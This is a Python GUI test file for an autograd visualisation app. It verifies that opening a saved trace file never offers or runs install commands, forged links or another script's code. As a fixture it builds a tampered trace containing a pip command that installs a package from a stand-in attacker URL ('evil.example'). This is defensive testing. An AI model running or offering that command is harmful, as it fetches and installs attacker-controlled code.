"""A saved trace never starts an action; a live run offers only what the app derives itself.

- A trace file whose `missing_module` error names a URL as the distribution
  and carries its own `command`: opened in the real window it offers no
  Install link and shows none of its command; a forged `install:` link does
  nothing; the CLI's advice line has no command for it.
- A live run of `import some_missing_module`: the package and the command
  come from the module name (with the known import-name mapping), and the
  install dialog shows the exact command before anything runs.
- "Check numerically" on a saved trace never asks the worker (it holds
  another script's run): it says the script must run again and, once the
  learner confirms, runs the trace's own script; then the check works.
"""

from __future__ import annotations

import json
import shlex

import pytest
from output_links import hrefs as _hrefs  # (tests/app/output_links.py)
from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QMessageBox

from autogradviz.engine.protocol.client import describe_error
from autogradviz.engine.protocol.interpreter import pip_install_command
from autogradviz.engine.trace import codec

from autogradviz.app.environments.install_dialog import IDLE, InstallDialog
from autogradviz.app.services.worker_process import READY

RUN_TIMEOUT_MS = 90_000
MISSING = "some_missing_module_p3"
URL = "https://evil.example/numpy-1.0.tar.gz"
EVIL_COMMAND = f"pip install 'numpy @ {URL}'"


@pytest.fixture
def window(qtbot, main_window, wait_until, shared_worker):
    w = main_window
    wait_until(lambda: shared_worker.state == READY, 60_000, "worker ready")
    w.trace_files.quiet = True
    w.ask_unsaved = lambda: "discard"
    w.files.new_file()
    yield w
    if w.environments.dialog is not None:
        w.environments.dialog.reject()


def _run(qtbot, w, code: str):
    w.editor.setPlainText(code)
    with qtbot.waitSignal(w.runFinished, timeout=RUN_TIMEOUT_MS) as blocker:
        w.actions["run"].trigger()
    return blocker.args[0]


def test_a_live_missing_module_offers_the_package_from_its_name_and_shows_the_command(qtbot, window):
    w = window
    trace = _run(qtbot, w, f"import torch\nimport {MISSING}\n")
    assert trace.error.code == "missing_module", trace.error
    python = w.worker.python
    assert pip_install_command(python, [MISSING]) in w.output.plain_text
    assert f"install:{MISSING}" in _hrefs(w.output)
    w.output.anchorClicked.emit(QUrl(f"install:{MISSING}"))  # what clicking the link does
    dialog = w.environments.dialog
    assert isinstance(dialog, InstallDialog) and dialog.distributions == [MISSING]
    # the exact command, word for word, before anything runs
    exact = [python, "-m", "pip", "install", "--disable-pip-version-check", "--no-input", MISSING,
             "--progress-bar", "off"]
    assert dialog.command == exact
    assert shlex.join(exact) in dialog.command_label.text()
    assert dialog.state == IDLE and not dialog.pip.is_running() and dialog.start_button.isVisible()


def test_a_live_error_naming_no_module_offers_nothing(qtbot, window):
    w = window
    trace = _run(qtbot, w, f"raise ModuleNotFoundError('nope', name='numpy @ {URL}')\n")
    assert trace.error.type == "ModuleNotFoundError"
    assert not [h for h in _hrefs(w.output) if h.startswith("install:")]
    assert "pip install" not in w.output.plain_text


def test_a_saved_trace_offers_no_install_and_no_command(qtbot, window, tmp_path):
    w = window
    trace = _run(qtbot, w, f"import torch\nimport {MISSING}\n")
    data = codec.to_builtins(trace)
    params = data["error"]["params"]
    params.update(module="numpy", distribution=f"numpy @ {URL}", command=EVIL_COMMAND)
    data["error"]["explanation"] = f"Install it with:\n    {EVIL_COMMAND}"
    path = tmp_path / "missing.trace.json"
    path.write_text(json.dumps(data), encoding="utf-8")

    with qtbot.waitSignal(w.trace_files.traceOpened, timeout=30_000):
        w.trace_files.open(str(path))
    shown = w.output.plain_text
    assert "numpy" in shown  # it says which module was missing
    assert URL not in shown and "pip install" not in shown
    assert not [h for h in _hrefs(w.output) if h.startswith("install:")]
    assert URL not in w.editor.error_message and "pip install" not in w.editor.error_message
    # a forged link (nothing in the app makes one) opens nothing
    w.output.anchorClicked.emit(QUrl(f"install:numpy @ {URL}"))
    assert w.environments.dialog is None
    # the CLI: a saved trace's error gets no command; a run's is made from the module name
    assert "pip" not in describe_error(w.session.trace.error, "x.py")
    assert describe_error(w.session.trace.error, "x.py", "/usr/bin/python3").endswith(
        "install it into the worker's Python with: /usr/bin/python3 -m pip install numpy")


# -- Check numerically -----------------------------------------------------------------------------------
LEAF_SCRIPT = """\
import torch
w = torch.tensor([1.0, 2.0, 3.0], requires_grad=True)
loss = (w ** 2).sum()
loss.backward()
"""


def _leaf(session, label):
    return next(n for n in session.graph.nodes if n.label == label and n.kind == "leaf")


def test_check_numerically_on_a_saved_trace_reruns_only_its_own_script_after_asking(qtbot, window, tmp_path):
    w = window
    script = tmp_path / "leaf.py"
    script.write_text(LEAF_SCRIPT, encoding="utf-8")
    assert w.files.open_file(str(script))
    with qtbot.waitSignal(w.runFinished, timeout=RUN_TIMEOUT_MS):
        w.actions["run"].trigger()
    saved = tmp_path / "leaf.trace.json"
    with qtbot.waitSignal(w.trace_files.traceSaved, timeout=20_000):
        w.trace_files.save(str(saved))
    w.files.new_file()
    _run(qtbot, w, "import torch\nv = torch.ones(3, requires_grad=True)\n(v * 5).sum().backward()\n")  # the worker's last run

    with qtbot.waitSignal(w.trace_files.traceOpened, timeout=30_000):
        w.trace_files.open(str(saved))
    asked = []
    w.session.gradientCheckRequested.connect(asked.append)
    w.session.select_node(_leaf(w.session, "w").id)
    box = w.panels.widget("inspector").fd_box
    box.check()  # the button and its shortcut
    assert asked == []  # never the worker's last script
    assert not box.button.isEnabled()
    assert "run again" in box.result.text() and box.rerun_button.isVisibleTo(box)

    box.rerun_button.click()
    confirm = box.confirm
    assert isinstance(confirm, QMessageBox) and str(script) in confirm.text()
    confirm.button(QMessageBox.Cancel).click()
    qtbot.waitUntil(lambda: box.confirm is None, timeout=5_000)
    assert w.session.saved_file == str(saved)  # nothing ran

    box.rerun_button.click()
    with qtbot.waitSignal(w.runFinished, timeout=RUN_TIMEOUT_MS) as blocker:
        box.confirm.button(QMessageBox.Yes).click()
    trace = blocker.args[0]
    assert trace.script == str(script) and w.session.saved_file is None
    w.session.select_node(_leaf(w.session, "w").id)
    with qtbot.waitSignal(w.session.gradientCheckArrived, timeout=RUN_TIMEOUT_MS) as reply:
        box.check()
    assert asked and not reply.args[0].get("error"), reply.args[0]
    assert [round(v, 3) for v in reply.args[0]["fd"]] == [2.0, 4.0, 6.0]

    # the trace's script gone: it says so, and offers no run
    with qtbot.waitSignal(w.trace_files.traceOpened, timeout=30_000):
        w.trace_files.open(str(saved))
    script.unlink()
    w.session.select_node(_leaf(w.session, "w").id)
    box.refresh()
    assert "not here" in box.result.text() and not box.rerun_button.isVisibleTo(box)


def test_the_memory_comparison_is_not_offered_for_a_saved_trace(qtbot, window, tmp_path):
    """Its re-run is the last live run's request: for a saved trace that is another run's code."""
    w = window
    script = tmp_path / "ckpt.py"
    script.write_text("import torch\nfrom torch.utils.checkpoint import checkpoint\n"
                      "x = torch.ones(3, requires_grad=True)\n"
                      "y = checkpoint(lambda t: torch.tanh(t) * 2, x, use_reentrant=False)\n"
                      "y.sum().backward()\n", encoding="utf-8")
    assert w.files.open_file(str(script))
    with qtbot.waitSignal(w.runFinished, timeout=RUN_TIMEOUT_MS):
        w.actions["run"].trigger()
    memory = w.panels.widget("memory")
    assert memory.can_compare()  # a live run: offered
    saved = tmp_path / "ckpt.trace.json"
    with qtbot.waitSignal(w.trace_files.traceSaved, timeout=20_000):
        w.trace_files.save(str(saved))
    with qtbot.waitSignal(w.trace_files.traceOpened, timeout=30_000):
        w.trace_files.open(str(saved))
    assert not memory.can_compare()
